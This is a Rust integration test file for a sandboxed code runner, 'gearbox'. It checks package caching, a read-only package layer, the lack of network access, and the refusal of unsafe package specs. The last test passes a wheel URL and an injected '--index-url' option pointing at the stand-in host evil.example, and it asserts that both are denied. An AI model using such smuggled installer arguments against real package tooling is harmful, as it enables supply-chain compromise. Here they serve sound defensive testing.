//! Packages through the real binary: `gearbox run --package` installs outside the sandbox
//! into a cached layer, mounts it read-only, and the run still has no network. Installers are
//! wrapped by scripts that log every start, so "no installer ran" is observed, not assumed.
//! Run with `cargo test -p gearbox --test packages` (needs uv from
//! scripts/setup-packages.sh, npm, and access to PyPI and the npm registry).

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

struct Env {
    dir: PathBuf,
    config: PathBuf,
    log: PathBuf,
}

impl Drop for Env {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn real_uv() -> PathBuf {
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    [
        std::env::var("GEARBOX_TOOLS_DIR")
            .map(|t| PathBuf::from(t).join("bin/uv"))
            .ok(),
        Some(PathBuf::from(home).join(".cache/gearbox/tools/bin/uv")),
    ]
    .into_iter()
    .flatten()
    .find(|p| p.exists())
    .expect("uv is installed by scripts/setup-packages.sh")
}

fn wrapper(dir: &Path, name: &str, real: &Path, log: &Path) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!(
            "#!/bin/sh\necho \"{name} $*\" >> '{}'\nexec '{}' \"$@\"\n",
            log.display(),
            real.display()
        ),
    )
    .expect("wrapper");
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    p
}

fn env(tag: &str) -> Env {
    // Not under /tmp: the sandbox has its own /tmp, so layers there could not be mounted.
    let dir = PathBuf::from(format!(
        "/var/tmp/gearbox-pkgs-{tag}-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let log = dir.join("installers.log");
    let uv = wrapper(&dir, "uv", &real_uv(), &log);
    let npm = wrapper(&dir, "npm", Path::new("/usr/bin/npm"), &log);
    let config = dir.join("gearbox.toml");
    std::fs::write(
        &config,
        format!(
            "[packages]\ncache_dir = \"{}\"\nuv = \"{}\"\nnpm = \"{}\"\ninstall_timeout_ms = 180000\n",
            dir.join("cache").display(),
            uv.display(),
            npm.display()
        ),
    )
    .expect("config");
    Env { dir, config, log }
}

impl Env {
    fn installer_runs(&self) -> usize {
        std::fs::read_to_string(&self.log).map_or(0, |t| t.lines().count())
    }

    /// `gearbox run --json` of `code` (file `name`) with `packages`.
    fn run(&self, name: &str, code: &str, packages: &[&str]) -> Value {
        let file = self.dir.join(name);
        std::fs::write(&file, code).expect("program");
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_gearbox"));
        cmd.arg("--config")
            .arg(&self.config)
            .args(["run", "--json"]);
        if gear_flag() {
            cmd.args(["--gear", "full_trust"]);
        }
        for p in packages {
            cmd.arg(format!("--package={p}"));
        }
        cmd.arg(&file);
        let out = cmd.output().expect("gearbox run");
        let stdout = String::from_utf8_lossy(&out.stdout);
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| {
            panic!(
                "not an outcome ({e}): {stdout}\nstderr: {}",
                String::from_utf8_lossy(&out.stderr)
            )
        })
    }
}

/// Whether this build's `gearbox run` takes `--gear` (the gear decides about packages).
fn gear_flag() -> bool {
    let out = Command::new(env!("CARGO_BIN_EXE_gearbox"))
        .args(["run", "--help"])
        .output()
        .expect("help");
    String::from_utf8_lossy(&out.stdout).contains("--gear")
}

const SIX: &str = r#"
import os, six
print("six", six.__version__)
print("path", os.environ.get("PYTHONPATH", ""))
"#;

#[test]
fn python_package_installs_once_and_the_second_run_runs_no_installer() {
    let e = env("py");
    let first = e.run("a.py", SIX, &["six"]);
    assert_eq!(first["status"], "ok", "{first}");
    assert!(
        first["stdout"].as_str().unwrap_or("").contains("six 1."),
        "{first}"
    );
    assert_eq!(e.installer_runs(), 1, "the first run installs");

    let t = std::time::Instant::now();
    let second = e.run("b.py", SIX, &["SIX"]);
    assert_eq!(second["status"], "ok", "{second}");
    assert_eq!(e.installer_runs(), 1, "the second run ran no installer");
    assert!(
        t.elapsed().as_secs() < 10,
        "cached run took {:?}",
        t.elapsed()
    );
}

#[test]
fn the_layer_is_read_only_inside_the_sandbox() {
    let e = env("ro");
    let code = r#"
import os, six
d = os.path.dirname(six.__file__)
for what, f in [
    ("create", lambda: open(os.path.join(d, "planted.py"), "w")),
    ("modify", lambda: open(six.__file__, "a")),
    ("remove", lambda: os.unlink(six.__file__)),
    ("chmod", lambda: os.chmod(six.__file__, 0o777)),
    ("mkdir", lambda: os.mkdir(os.path.join(d, "x"))),
]:
    try:
        f()
        print(what, "SUCCEEDED")
    except OSError as e:
        print(what, "refused", e.errno)
print("uid", os.getuid())
"#;
    let o = e.run("ro.py", code, &["six"]);
    assert_eq!(o["status"], "ok", "{o}");
    let out = o["stdout"].as_str().unwrap_or("");
    assert!(
        !out.contains("SUCCEEDED"),
        "the sandbox changed its layer:\n{out}"
    );
    assert_eq!(out.matches("refused").count(), 5, "{out}");
    // And nothing changed on the host side either.
    let layers = e.dir.join("cache/layers");
    for layer in std::fs::read_dir(&layers).expect("layers").flatten() {
        assert!(!layer.path().join("site/planted.py").exists());
        assert!(layer.path().join("site/six.py").exists());
    }
}

#[test]
fn the_sandbox_still_has_no_network_after_an_install() {
    let e = env("net");
    let code = r#"
import socket, six
for host, port in [("151.101.0.223", 443), ("104.16.0.35", 443), ("1.1.1.1", 53)]:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, port))
        print("CONNECTED", host)
    except OSError as e:
        print("blocked", host, e.errno)
try:
    socket.getaddrinfo("example.com", 443)
    print("RESOLVED")
except OSError as e:
    print("no dns", e)
"#;
    let o = e.run("net.py", code, &["six"]);
    assert_eq!(o["status"], "ok", "{o}");
    let out = o["stdout"].as_str().unwrap_or("");
    assert!(
        !out.contains("CONNECTED") && !out.contains("RESOLVED"),
        "{out}"
    );
    assert_eq!(out.matches("blocked").count(), 3, "{out}");
}

#[test]
fn javascript_package_from_npm() {
    let e = env("js");
    let code = "const isNumber = require('is-number');\nconsole.log(isNumber(5), isNumber('x'));\n";
    let o = e.run("a.js", code, &["is-number@^7"]);
    assert_eq!(o["status"], "ok", "{o}");
    assert_eq!(o["stdout"], "true false\n", "{o}");
    let n = e.installer_runs();
    assert_eq!(n, 1);
    let o = e.run("b.js", code, &["is-number@^7"]);
    assert_eq!(o["status"], "ok", "{o}");
    assert_eq!(e.installer_runs(), n, "cached");
}

#[test]
fn refusals_and_failures_are_clear_and_run_nothing() {
    let e = env("bad");
    let o = e.run("u.py", "print(1)", &["six @ https://evil.example/six.whl"]);
    assert_eq!(o["status"], "denied", "{o}");
    assert!(
        o["reason"].as_str().unwrap_or("").contains("allow_urls"),
        "{o}"
    );
    let o = e.run(
        "o.py",
        "print(1)",
        &["--index-url=https://evil.example/simple"],
    );
    assert_eq!(o["status"], "denied", "{o}");
    assert_eq!(e.installer_runs(), 0, "refusals start no installer");

    let o = e.run("n.py", "print(1)", &["gearbox-no-such-package-4b1f9c"]);
    assert_eq!(o["status"], "error", "{o}");
    let reason = o["reason"].as_str().unwrap_or("");
    assert!(
        reason.contains("gearbox-no-such-package-4b1f9c"),
        "{reason}"
    );
    assert_eq!(o["stdout"], "", "the program did not run");
}
